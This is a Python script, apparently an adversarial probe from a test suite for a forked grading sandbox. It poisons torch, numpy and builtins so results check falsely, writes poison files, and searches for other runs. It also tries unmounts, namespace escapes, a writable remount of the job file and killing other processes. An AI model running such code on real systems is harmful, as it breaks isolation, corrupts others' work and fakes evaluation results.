# Attack the warm parent this run was forked from, and the next student it serves: poison the
# libraries and builtins, leave files behind, look for other runs' folders and processes, try to
# undo the mounts that hide them (also from a user namespace of its own, with capabilities there).
import builtins, ctypes, os, signal, numpy, torch
torch.sin = torch.cos
torch.Tensor.backward = lambda self, *a, **k: None
numpy.allclose = lambda *a, **k: True
builtins.abs = lambda x: 0
for _folder in ("/tmp", "/dev/shm", "/sandbox/work", "/slot", "/sandbox/job"):
    try:
        open(os.path.join(_folder, "poison.py"), "w").write("raise SystemExit('poisoned')\n")
    except OSError:
        pass
_libc = ctypes.CDLL(None, use_errno=True)


def _look(where):
    for folder in ("/slot", "/proc"):
        try:
            entries = [e for e in os.listdir(folder) if e not in ("self", "thread-self", str(os.getpid()))]
        except OSError:
            continue
        if folder == "/slot" and entries or folder == "/proc" and any(e.isdigit() and int(e) > 3 for e in entries):
            leak(f"{folder} {where}", entries)


_look("as forked")
for _target in (b"/slot", b"/proc", b"/tmp", b"/sandbox/work"):
    _libc.umount2(_target, 2)
_look("after umount")
_pid = os.fork()
if _pid == 0:
    if _libc.unshare(0x10000000 | 0x20000) == 0:  # a user and mount namespace of its own
        for _target in (b"/slot", b"/proc", b"/sandbox/job"):
            _libc.umount2(_target, 2)
        _libc.mount(b"none", b"/sandbox/job", None, 0x20 | 0x1000, None)  # remount the job writable
        try:
            open("/sandbox/job/job.json", "a").write("poisoned")
            leak("job", "writable")
        except OSError:
            pass
        _look("in a user namespace")
    os._exit(0)
os.waitpid(_pid, 0)
for _victim in range(1, 64):
    if _victim != os.getpid():
        try:
            os.kill(_victim, signal.SIGKILL)
        except OSError:
            pass
